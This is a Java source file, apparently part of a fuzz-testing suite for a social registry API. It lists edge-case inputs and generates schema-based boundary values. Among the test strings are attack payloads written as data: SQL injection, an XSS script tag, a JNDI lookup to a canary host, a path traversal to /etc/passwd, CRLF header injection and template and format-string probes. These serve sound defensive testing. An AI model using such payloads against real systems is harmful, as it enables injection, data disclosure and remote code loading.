package kz.socialregistry.testing.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

/** Values: good ones for a schema, those around its bounds, and those that break programs. */
final class Values {

    /** Texts, with lone surrogates among them. */
    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "canary\u0000canary",
            "canary\u0007canary",
            "canary\u0085canary",
            "canary\r\nX-Injected: 1",
            "\ud800",
            "canary\udc00canary",
            "\ufeffcanary-with-bom",
            "canary\ufffe\uffff",
            "\u202ecanary backwards\u202c",
            "\u200b\u200d\u2060",
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 отбасы",
            "e\u0301\u0302\u0303\u0304\u0305 zalgo " + "\u0301".repeat(80),
            "ӘҒҚҢӨҰҮҺІ әғқңөұүһі",
            "И\u0306 Е\u0308",
            "İstanbul ß ﬁ Ω",
            "canary'; drop table outbox; --",
            "canary\" or 1=1",
            "<script>alert('canary')</script>",
            "${jndi:ldap://canary.test/x}",
            "{{7*7}} #{7*7} {0} {1} '{'",
            "%s%n%x canary",
            "../../../../etc/passwd",
            "C:\\canary\\con",
            "null",
            "NaN",
            "-1",
            "0",
            "1e400",
            "1e2147483647",
            "0x10",
            "2026-02-30",
            "0000-00-00",
            "-0001-01-01",
            "+10000-01-01",
            "999999999-12-31",
            "9999-12-31",
            "0001-01-01",
            "2026-01-01T00:00:00Z",
            "2026-13-01T25:61:61+99:99",
            "٢٠٢٦-٠١-٠١",
            "２０２６",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "not-a-uuid-at-all",
            "1-1-1-1-1",
            "850615100017",
            "000000000000",
            "9".repeat(40),
            "0.00",
            "-5.00",
            "1.005",
            "99999999999999999999.99",
            "canary" + "a".repeat(95),
            "canary" + "Ә".repeat(500),
            "canary" + "\ud83d\ude00".repeat(3000),
            "canary" + "x".repeat(110_000));

    /** What may stand in the place of a value, as JSON and nearly JSON. */
    static final List<String> JSON = List.of(
            "null",
            "true",
            "false",
            "0",
            "-0",
            "-1",
            "1",
            "0.1",
            "1.0",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "1e400",
            "1e-400",
            "1E5",
            "1e999999999",
            "123456789012345678901234567890123456789",
            "1" + "0".repeat(60),
            "0." + "0".repeat(60) + "1",
            "1" + "0".repeat(1100),
            "NaN",
            "Infinity",
            "007",
            "+1",
            ".5",
            "'single'",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "[{}]",
            "{\"\":\"\"}",
            "{\"@type\":\"java.lang.String\"}",
            "[1,2,3,\"x\"]",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\udfff canary\"",
            "\"\\uZZZZ\"",
            "\"\\x\"",
            "\"\t\"",
            "\"",
            "undefined",
            "/* comment */ 1",
            "\"\" \"\"",
            "[".repeat(40) + "]".repeat(40),
            "{\"a\":".repeat(60) + "1" + "}".repeat(60),
            "[".repeat(20_000),
            "[" + "1,".repeat(3000) + "1]");

    /** What may stand in a path or after {@code ?name=}, encoded or meant to be. */
    static final List<String> ENCODED = List.of(
            "",
            "%",
            "%zz",
            "%2",
            "%00",
            "%0A",
            "%0d%0aX-Injected:%201",
            "%FF",
            "%C0%80",
            "%ED%A0%80",
            "%F4%90%80%80",
            "%25",
            "%2F",
            "%5C",
            "%2e%2e",
            "..",
            ".",
            "+",
            "a+b",
            "%20",
            ";a=b",
            "a;b",
            "a&b",
            "a=b",
            "a#b",
            "*",
            "~",
            "{id}",
            "|",
            "^",
            "`",
            "%E2%80%AE",
            "%F0%9F%98%80",
            "%D3%98%D2%92",
            "null",
            "-1",
            "0",
            "1e9",
            "201",
            "200",
            "99999999999999999999",
            "2026-02-30",
            "00000000-0000-0000-0000-000000000000",
            "canary-canary-canary",
            "a".repeat(300),
            "a".repeat(3000),
            "a".repeat(9000),
            "true",
            "[]",
            "{}",
            "\"\"",
            "1,2",
            ",",
            ",,,",
            "a,a");

    /** What may stand in a header. Broken ones are in {@link #BROKEN_HEADERS}. */
    static final List<String> HEADERS = List.of(
            "",
            " ",
            ",",
            ",,,",
            ";",
            "=",
            "\"",
            "\"unclosed",
            "*",
            "W/\"1\"",
            "\"1\"",
            "\"-1\"",
            "\"99999999999999999999\"",
            "1",
            "\"\"",
            "\"a\", \"b\", *",
            "null",
            "wait=",
            "wait=-1",
            "wait=abc",
            "wait=0",
            "wait=1e9",
            "wait=99999999999999999999",
            "wait=0, wait=0",
            "respond-async",
            "return=minimal",
            "*/*;q=5",
            "*/*;q=0",
            "text/*",
            "text/html",
            "a/b/c",
            "/",
            "application/json;charset=utf-16",
            "application/json;charset=canary",
            "application/json; charset=\"",
            "application/xml",
            "multipart/form-data",
            "text/csv",
            "q=0.5",
            "kk;q=abc",
            "zz-ZZ-x-canary",
            "en;q=1.5,ru;q=-1",
            "-",
            "_",
            "00-0-0-0",
            "00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-00",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "ff-4bf92f3577b34da6a3ce929d0e0e4736-x-01",
            "canary-canary-canary",
            "<script>canary</script>",
            "${jndi:ldap://canary.test/x}",
            "%D3%98%00%zz",
            "caf\u00e9 canary",
            "\u00d3\u0098\u00d2\u0092",
            "a".repeat(201),
            "a".repeat(1000),
            "a".repeat(6000));

    /** Lines that are no headers. */
    static final List<String> BROKEN_HEADERS =
            List.of("a\u0000b", "a\u0001b", "a\rb", "a\nb", "a\n b", "a\u007fb", "a".repeat(20_000));

    private static final List<String> DAYS = List.of(
            "1899-12-31",
            "1950-06-15",
            "2001-09-01",
            "2018-12-31",
            "2019-01-01",
            "2019-06-30",
            "2019-12-31",
            "2024-02-29",
            "2025-01-01",
            "2026-01-01",
            "2026-06-30",
            "2027-01-01",
            "2099-12-31");

    private Values() {}

    /** A text as a JSON string; a lone surrogate as an escape. */
    static String quoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        text.codePoints().forEach(c -> {
            boolean surrogate = c >= 0xd800 && c <= 0xdfff;
            if (c < ' ' || surrogate) {
                json.append("\\u%04x".formatted(c));
            } else {
                json.append(c == '"' || c == '\\' ? "\\" : "").appendCodePoint(c);
            }
        });
        return json.append('"').toString();
    }

    /** JSON that a schema allows, as far as it says. */
    static String good(JsonNode schema, Dice dice) {
        if (schema.path("enum").size() > 0) {
            return schema.get("enum").get(dice.below(schema.get("enum").size())).toString();
        }
        if (schema.path("examples").size() > 0 && dice.chance(70)) {
            return schema.get("examples").get(0).toString();
        }
        return switch (type(schema)) {
            case "integer" -> Long.toString(schema.path("minimum").asLong(0) + dice.below(50));
            case "number" -> dice.below(1000) + "." + dice.below(100);
            case "boolean" -> Boolean.toString(dice.chance(50));
            case "array" -> "[]";
            case "object" -> "{}";
            default -> quoted(text(schema, dice));
        };
    }

    private static String text(JsonNode schema, Dice dice) {
        return switch (schema.path("format").asText()) {
            case "date" -> dice.of(DAYS);
            case "date-time" -> dice.of(DAYS) + "T0" + dice.below(10) + ":00:00Z";
            case "uuid" -> new UUID(dice.below(1 << 30), dice.below(1 << 30)).toString();
            default -> "Ә".repeat(schema.path("minLength").asInt(1)) + dice.below(1_000_000);
        };
    }

    /** JSON on both sides of each documented bound. */
    static List<String> bounds(JsonNode schema) {
        List<String> bounds = new ArrayList<>();
        for (String bound : List.of("minimum", "maximum", "exclusiveMinimum", "exclusiveMaximum")) {
            if (schema.path(bound).isNumber()) {
                long at = schema.get(bound).asLong();
                bounds.addAll(List.of(Long.toString(at - 1), Long.toString(at), Long.toString(at + 1)));
            }
        }
        for (String bound : List.of("minLength", "maxLength")) {
            if (schema.path(bound).isNumber()) {
                int at = Math.min(200_000, schema.get(bound).asInt());
                bounds.add(quoted("я".repeat(Math.max(0, at - 1))));
                bounds.add(quoted("я".repeat(at)));
                bounds.add(quoted("я".repeat(at + 1)));
                bounds.add(quoted("\ud83d\ude00".repeat(at)));
            }
        }
        schema.path("enum").forEach(value -> {
            bounds.add(value.toString());
            bounds.add(quoted(value.asText().toUpperCase(java.util.Locale.ROOT) + " "));
        });
        return bounds;
    }

    /** The type a schema names, {@code string} if it names none. */
    static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode one : type) {
                if (!one.asText().equals("null")) {
                    return one.asText();
                }
            }
        }
        return type.asText("string");
    }
}
